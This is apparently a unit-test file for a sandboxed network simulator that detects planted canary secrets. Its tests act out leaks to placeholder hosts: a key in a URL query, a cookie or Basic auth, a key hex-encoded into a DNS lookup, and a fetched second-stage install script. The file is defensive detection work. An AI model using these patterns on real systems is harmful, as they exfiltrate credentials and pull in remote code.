import { describe, expect, it } from 'vitest';
import { createNetwork } from './network.ts';
import { createPlantedSecrets } from './planted-secrets.ts';
import { createRecorder } from './recorder.ts';
import { createTracer } from './trace.ts';

function setup() {
  const home = createPlantedSecrets('digest', ['ACME_API_KEY']);
  const recorder = createRecorder('unit', (target) => target);
  const network = createNetwork({ record: recorder.record, tracer: createTracer(home.canaries) });
  return { network, recorder, key: home.env.ACME_API_KEY ?? '' };
}
const URL = 'https://api.example.invalid/v1';

describe('createNetwork', () => {
  it('records method and address, and that something was uploaded', () => {
    const { network, recorder } = setup();
    network.request({ method: 'post', url: URL, headers: [], body: 'x' });
    expect(recorder.acts()).toMatchObject([{ kind: 'net', target: `POST ${URL}`, data: ['upload'] }]);
  });

  it('tells a key in its proper header from a key anywhere else', () => {
    const { network, recorder, key } = setup();
    network.request({ method: 'GET', url: URL, headers: [['Authorization', `Bearer ${key}`]], body: '' });
    network.request({ method: 'GET', url: URL, headers: [['X-Api-Key', key]], body: '' });
    network.request({ method: 'GET', url: `${URL}?k=${key}`, headers: [['Authorization', key]], body: '' });
    network.request({ method: 'GET', url: URL, headers: [['Cookie', key]], body: '' });
    const isAuth = recorder.acts().map(({ data }) => data.includes('auth'));
    expect(isAuth).toEqual([true, false, false]); // the first two are one act
  });

  it('looks into basic credentials', () => {
    const { network, recorder, key } = setup();
    const basic = `Basic ${Buffer.from(`user:${key}`).toString('base64')}`;
    network.request({ method: 'GET', url: URL, headers: [['Authorization', basic]], body: '' });
    expect(recorder.acts()[0]?.data).toEqual(expect.arrayContaining(['auth', 'canary:env-token']));
  });

  it('answers with a second stage that names where it came from', () => {
    const { network } = setup();
    const url = 'https://get.example.invalid/install.sh';
    const { body } = network.request({ method: 'GET', url, headers: [], body: '' });
    expect(network.stageOrigin(body.trim())).toBe(url);
  });

  it('answers an API call with JSON', () => {
    const { network } = setup();
    const { body, contentType } = network.request({ method: 'GET', url: URL, headers: [], body: '' });
    expect(contentType).toBe('application/json');
    expect(JSON.parse(body)).toMatchObject({ ok: true });
  });

  it('finds a secret in a name that is looked up', () => {
    const { network, recorder, key } = setup();
    network.resolve(`${Buffer.from(key).toString('hex').replace(/.{40}/g, '$&.')}.example.invalid`);
    expect(recorder.acts()[0]).toMatchObject({ kind: 'dns', data: expect.arrayContaining(['canary:env-token']) });
  });
});
